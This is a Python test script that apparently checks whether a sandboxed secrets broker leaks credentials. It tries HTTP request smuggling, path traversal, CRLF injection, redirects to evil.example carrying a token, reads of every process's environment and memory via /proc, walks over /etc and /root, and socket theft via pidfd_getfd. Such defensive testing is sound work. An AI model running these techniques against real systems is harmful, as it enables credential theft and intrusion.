# SPDX-License-Identifier: Apache-2.0
"""Inside a sandbox that has secrets with the broker: tries to get a value. It never knows one; whatever it gets hold of goes into
GOT, a directory of the workspace, in which the test looks for the values from outside.
Prints rows: name of the way, a tab, what stopped it. Usage: hostile_secret.py GOT WAY..., or all of them."""
import ctypes, os, re, signal, socket, subprocess, sys, time, zlib

A = ("berth.internal", 80)
H = b"Host: berth.internal\r\n"
WAYS = {}


def way(f):
    WAYS[f.__name__.replace("_", "-")] = f
    return f


def save(name, data):
    with open(os.path.join(GOT, name), "ab") as f: f.write(data)


def joined(got):
    """The contents of chunks, wherever some are."""
    all, at = b"", 0
    while m := re.compile(rb"([0-9a-f]{1,8})\r\n").search(got, at):
        n = int(m[1], 16)
        if got[m.end() + n:m.end() + n + 2] == b"\r\n" and n:
            all += got[m.end():m.end() + n]
            at = m.end() + n + 2
        else:
            at = m.end()
    return all


def say(data, wait=10, end=True):
    """What comes back on a connection of its own, until it ends or the last answer is whole."""
    s = socket.create_connection(A, wait)
    got = b""
    try:
        s.sendall(data)
        if end: s.shutdown(socket.SHUT_WR)
        while (p := s.recv(65536)): got += p
    except OSError:
        pass
    s.close()
    save(CURRENT, got)
    save(CURRENT, b"\n" + joined(got))  # a value is also one across borders of chunks
    return got


def stop(got):
    """The first answer's refusal, or that something else was had."""
    m = re.match(rb"HTTP/1\.1 (\d+)", got)
    if not m: return "the connection ends" if not got else "achieved: %r" % got[:80]
    rule = re.search(rb"X-Berth-Rule: ([\w-]+)", got)
    if int(m[1]) >= 400 and rule: return "%s `%s`" % (m[1].decode(), rule[1].decode())
    return "answered %s" % m[1].decode()


def refused(data, **k):
    return stop(say(data, **k))


def get(path, more=b"", method=b"GET"):
    return say(method + b" " + path + b" HTTP/1.1\r\n" + H + more + b"\r\n")


def masked(got):
    """The value would be here, and asterisks are."""
    if not got.startswith(b"HTTP/1.1"): return "the connection ends"
    if b"***" in got: return "masked"
    return stop(got)


# --- who is spoken with ------------------------------------------------------------------------------------------------
@way
def another_host_in_the_target(): return refused(b"GET https://evil.example/hello HTTP/1.1\r\n" + H + b"\r\n")
@way
def our_host_in_the_target(): return refused(b"GET http://berth.internal/web/hello HTTP/1.1\r\nHost: evil.example\r\n\r\n")
@way
def a_user_in_the_target(): return refused(b"GET http://web@berth.internal/web/hello HTTP/1.1\r\n" + H + b"\r\n")
@way
def two_hosts(): return refused(b"GET /web/hello HTTP/1.1\r\n" + H + b"Host: evil.example\r\n\r\n")
@way
def no_host(): return refused(b"GET /web/hello HTTP/1.1\r\n\r\n")
@way
def connect(): return refused(b"CONNECT evil.example:443 HTTP/1.1\r\n" + H + b"\r\n")
@way
def trace(): return refused(b"TRACE /web/echo HTTP/1.1\r\n" + H + b"\r\n")
@way
def upgrade_to_websocket(): return refused(b"GET /web/hello HTTP/1.1\r\n" + H + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
@way
def upgrade_to_http2(): return refused(b"GET /web/hello HTTP/1.1\r\n" + H + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n")
@way
def http2_at_once(): return refused(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
@way
def http_0_9(): return refused(b"GET /web/echo\r\n\r\n")
@way
def a_host_that_the_file_does_not_name(): return stop(get(b"/any/evil.example/hello"))
@way
def a_service_that_leads_elsewhere_than_the_file(): return stop(get(b"/moved/hello"))
@way
def a_host_with_a_user(): return stop(get(b"/any/evil.example@localhost/hello"))
@way
def a_host_with_another_port(): return stop(get(b"/any/localhost:1/hello"))
@way
def an_address_of_the_inside(): return stop(get(b"/inner/hello"))
@way
def a_server_that_cannot_prove_itself(): return stop(get(b"/stranger/hello"))
@way
def another_ones_service(): return stop(get(b"/other/hello"))
@way
def no_service(): return stop(get(b"/nothing/hello"))
@way
def the_service_in_other_letters(): return stop(get(b"/WEB/hello"))
@way
def two_secrets_for_one_service(): return stop(get(b"/both/hello"))
@way
def an_expired_one(): return stop(get(b"/old/hello"))
@way
def one_that_was_rotated():
    return "the new one is sent" if get(b"/turned/hello").endswith(b"hello\n") else "achieved"


# --- how the request is read ---------------------------------------------------------------------------------------------
POST = b"POST /web/sum HTTP/1.1\r\n" + H
SECOND = b"GET /other/hello HTTP/1.1\r\n" + H + b"\r\n"
@way
def length_and_chunks(): return refused(POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SECOND)
@way
def chunks_and_length(): return refused(POST + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + SECOND)
@way
def two_lengths(): return refused(POST + b"Content-Length: 0\r\nContent-Length: 40\r\n\r\n" + SECOND)
@way
def two_lengths_in_one(): return refused(POST + b"Content-Length: 0, 40\r\n\r\n" + SECOND)
@way
def a_length_with_a_sign(): return refused(POST + b"Content-Length: +0\r\n\r\n" + SECOND)
@way
def chunked_twice(): return refused(POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SECOND)
@way
def chunked_and_another(): return refused(POST + b"Transfer-Encoding: chunked, cow\r\n\r\n0\r\n\r\n" + SECOND)
@way
def a_coding_almost_chunked(): return refused(POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SECOND)
@way
def a_space_before_the_colon(): return refused(POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SECOND)
@way
def a_folded_line(): return refused(POST + b"X: y\r\n Transfer-Encoding: chunked\r\n\r\n" + SECOND)
@way
def bare_line_feeds(): return refused(b"GET /web/hello HTTP/1.1\nHost: berth.internal\nAuthorization: x\n\n")
@way
def a_bare_return(): return refused(b"GET /web/hello HTTP/1.1\r\n" + H + b"X: a\rAuthorization: b\r\n\r\n")
@way
def a_zero_in_a_field(): return refused(b"GET /web/hello HTTP/1.1\r\n" + H + b"X: a\0b\r\n\r\n")
@way
def a_chunk_that_is_none(): return refused(POST + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" + SECOND)
@way
def an_endless_chunk(): return refused(POST + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n" + SECOND)
@way
def trailers_of_ours(): return refused(POST + b"Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n0\r\nAuthorization: x\r\n\r\n")
@way
def a_huge_head(): return refused(b"GET /web/hello HTTP/1.1\r\n" + H + b"X: " + b"x" * 70000 + b"\r\n\r\n")
@way
def very_many_fields(): return refused(b"GET /web/hello HTTP/1.1\r\n" + H + b"".join(b"X%d: y\r\n" % i for i in range(3000)) + b"\r\n")
@way
def a_second_request_behind_the_first():
    got = say(b"GET /web/hello HTTP/1.1\r\n" + H + b"\r\n" + SECOND)
    return "the second: " + stop(got[got.index(b"hello\n") + 6:]) if b"hello\n" in got else stop(got)
@way
def a_second_request_in_the_body():
    got = say(POST + b"Content-Length: %d\r\n\r\n" % len(SECOND) + SECOND)
    return "it is a body" if got.count(b"HTTP/1.1 ") == 1 and b" 200 " in got[:20] else "achieved: %r" % got[:200]
@way
def unfinished_heads():
    held = [socket.create_connection(A, 10) for _ in range(200)]
    for s in held: s.sendall(b"GET /web/hello HTTP/1.1\r\nHost:")
    ok = get(b"/web/hello").endswith(b"hello\n")
    for s in held: s.close()
    return "others are answered beside 200 of them" if ok else "achieved: nobody is answered"


# --- the path ------------------------------------------------------------------------------------------------------------
@way
def dots(): return stop(get(b"/web/../other/hello"))
@way
def encoded_dots(): return stop(get(b"/web/%2e%2e/other/hello"))
@way
def dots_encoded_twice(): return stop(get(b"/web/%252e%252e/other/hello"))
@way
def an_encoded_slash(): return stop(get(b"/web/..%2fadmin"))
@way
def a_backslash(): return stop(get(b"/web/..\\admin"))
@way
def an_encoded_backslash(): return stop(get(b"/web/..%5cadmin"))
@way
def an_empty_segment(): return stop(get(b"/web//evil.example/hello"))
@way
def dots_with_a_parameter(): return stop(get(b"/web/..;/admin"))
@way
def an_encoded_line_end(): return stop(get(b"/web/hello%0d%0aX-Injected:%20y"))
@way
def an_encoded_zero(): return stop(get(b"/web/hello%00"))
@way
def a_path_that_is_not_allowed(): return stop(get(b"/web/admin"))
@way
def a_method_that_is_not_allowed(): return stop(get(b"/web/hello", method=b"DELETE"))
@way
def a_method_in_small_letters(): return stop(get(b"/web/hello", method=b"get"))
@way
def a_method_that_was_not_sealed(): return stop(get(b"/sealed/hello", method=b"POST"))
@way
def a_path_that_was_not_sealed(): return stop(get(b"/sealed/echo"))
@way
def a_header_that_was_not_sealed(): return stop(get(b"/headed/hello"))
@way
def a_body_that_is_too_long(): return refused(b"GET /sealed/hello HTTP/1.1\r\n" + H + b"Content-Length: 11\r\n\r\n12345678901")


# --- what the service is made to say back -----------------------------------------------------------------------------------
for how, name in (("body", "said_back_in_the_body"), ("json", "said_back_in_json"), ("header", "said_back_in_a_header"),                   ("gzip", "said_back_in_gzip"), ("deflate", "said_back_in_deflate"), ("split", "said_back_byte_by_byte"),
                  ("split-slow", "said_back_in_an_event_stream"), ("base64", "said_back_in_base64"), ("base64-1", "said_back_in_base64_shifted"),
                  ("base64-2", "said_back_in_base64_shifted_by_two"), ("base64url", "said_back_in_base64url"), ("basic", "said_back_as_basic"),
                  ("hex", "said_back_in_hex"), ("HEX", "said_back_in_HEX"), ("url", "said_back_url_encoded"), ("binary", "said_back_among_other_bytes"),
                  ("late", "said_back_behind_2_MB"), ("error", "said_back_in_an_error")):
    WAYS[name.replace("_", "-")] = lambda how=how: masked(get(b"/web/echo?how=" + how.encode()))
@way
def said_back_in_a_cookie(): return "cookies are not passed on" if b"Cookie" not in get(b"/web/echo?how=cookie") else "achieved"
@way
def said_back_in_a_trailer(): return "trailers are not passed on" if get(b"/web/echo?how=trailer").rstrip().endswith(b"0") else "achieved"
@way
def said_back_in_the_reason(): return "words of our own" if get(b"/web/echo?how=reason").startswith(b"HTTP/1.1 200 ") else "achieved"
@way
def said_back_in_an_early_hint():
    got = get(b"/web/echo?how=early")
    return "not passed on" if got.startswith(b"HTTP/1.1 200") and b"Link:" not in got else "achieved: %r" % got[:80]
@way
def said_back_as_a_name_of_a_field(): return masked(get(b"/web/echo?how=name"))
@way
def said_back_to_HEAD(): return masked(get(b"/web/echo?how=header", method=b"HEAD"))
@way
def a_redirect_to_another_host(): return stop(get(b"/web/redirect?to=https://evil.example/"))
@way
def a_redirect_without_TLS(): return stop(get(b"/web/redirect?to=http://localhost/hello"))
@way
def a_redirect_that_says_it(): return stop(get(b"/web/redirect?to=https://evil.example/TOKEN"))
@way
def a_redirect_here_that_says_it():
    got = get(b"/web/redirect?to=/hello/TOKEN")
    return masked(got)


# --- fields of ours: what arrived is looked at from outside --------------------------------------------------------------------
def arrives(name, more):
    def f():
        got = get(b"/web/hello?way=" + name.encode(), more)
        return "replaced or dropped" if got.endswith(b"hello\n") else stop(got)
    WAYS[name] = f
arrives("a-token-of-ours", b"Authorization: Bearer guess\r\n")
arrives("two-tokens-of-ours", b"Authorization: Bearer a\r\nAuthorization: Bearer b\r\n")
arrives("a-key-of-ours", b"X-Api-Key: guess\r\nCookie: a=b\r\nProxy-Authorization: Basic eA==\r\n")
arrives("the-credential-named-as-of-the-hop", b"Connection: keep-alive, Authorization\r\n")
arrives("pieces-by-Range", b"Range: bytes=0-0\r\n")
arrives("a-coding-that-is-not-masked", b"Accept-Encoding: br, zstd\r\n")
arrives("another-host-forwarded", b"X-Forwarded-Host: evil.example\r\nX-Original-URL: /admin\r\nX-HTTP-Method-Override: DELETE\r\n")


# --- inside ------------------------------------------------------------------------------------------------------------------
def memory(pid):
    """What can be written memory of a process, into GOT. Return: bytes."""
    n = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for m in re.finditer(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps.read(), re.M):
            a, b = int(m[1], 16), int(m[2], 16)
            try:
                mem.seek(a)
                data = mem.read(min(b - a, 1 << 24))
            except (OSError, ValueError, OverflowError):
                continue
            save(CURRENT, data)
            n += len(data)
    return n


@way
def environments_of_all():
    n = 0
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit(): save(CURRENT, open(f"/proc/{pid}/environ", "rb").read() + open(f"/proc/{pid}/cmdline", "rb").read()); n += 1
        except OSError: pass
    return "it is in none" if n else "achieved: none was read"
@way
def files_of_all():
    n = 0
    for top in ("/run", "/etc", "/home", "/root", "/tmp", "/dev/shm", "/var"):
        for at, _, files in os.walk(top):
            for f in files:
                p = os.path.join(at, f)
                try:
                    if os.path.isfile(p) and os.path.getsize(p) < 1 << 20: save(CURRENT, open(p, "rb").read()); n += 1
                except OSError: pass
    return "it is in none" if n > 20 else "achieved: none was read"
@way
def memory_of_the_agent():
    try: return "it is not there" if memory(1) else "achieved: nothing was read"
    except OSError as e: return "it is not there, nor to be read"
@way
def memory_of_a_client():
    p = subprocess.Popen(["curl", "-sN", "http://berth.internal/web/events?seconds=100"], stdout=subprocess.PIPE)
    p.stdout.read(10)
    n = memory(p.pid)
    p.kill()
    p.wait()
    return "it is not there" if n else "achieved: nothing was read"
@way
def core_of_a_client():
    import resource
    here = "/tmp/core-dir"
    os.makedirs(here, exist_ok=True)
    def limits(): resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); os.chdir(here)
    try:
        p = subprocess.Popen(["curl", "-sN", "http://berth.internal/web/events?seconds=100"], stdout=subprocess.PIPE, preexec_fn=limits)
    except subprocess.SubprocessError:
        return "it is not there"
    p.stdout.read(10)
    p.send_signal(signal.SIGABRT)
    p.wait()
    for f in os.listdir(here): save(CURRENT, open(os.path.join(here, f), "rb").read())
    return "it is not there"
@way
def the_listening_socket_stolen():
    libc = ctypes.CDLL(None, use_errno=True)
    pid = libc.syscall(434, 1, 0)  # pidfd_open
    got = [libc.syscall(438, pid, fd, 0) for fd in range(3, 200)] if pid >= 0 else []
    socks = [fd for fd in got if fd >= 0]
    n = 0
    for fd in socks:
        try:
            s = socket.socket(fileno=fd)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and s.getsockname() == ("127.19.0.1", 80): n += 1
            s.detach()
        except (OSError, ValueError): pass
    for fd in socks: os.close(fd)
    return "it leads to clients of one's own only" if n else "no descriptors of the agent's can be had"
@way
def the_name_turned_elsewhere():
    # what is sent to another server is what the client says, which has none
    s = socket.create_server(("127.0.0.1", 0))
    p = subprocess.Popen(["curl", "-s", "-m", "3", "--resolve", "berth.internal:80:127.0.0.1", "--connect-to", "berth.internal:80:127.0.0.1:%d" % s.getsockname()[1], "http://berth.internal/web/hello"])
    c, _ = s.accept()
    save(CURRENT, c.recv(65536))
    c.close()
    p.wait()
    return "a request has none until the broker puts it on"
@way
def listening_on_the_loopback():
    try: s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    except OSError: return "sockets of that kind are refused"
    s.settimeout(1)
    get(b"/web/hello")
    try: save(CURRENT, s.recv(65536))
    except OSError: pass
    return "achieved: a socket of that kind"


if __name__ == "__main__":
    GOT = sys.argv[1]
    os.makedirs(GOT, exist_ok=True)
    for CURRENT in sys.argv[2:] or list(WAYS):
        try: what = WAYS[CURRENT]()
        except Exception as e: what = "achieved: %r" % e
        print("%s\t%s" % (CURRENT, what), flush=True)
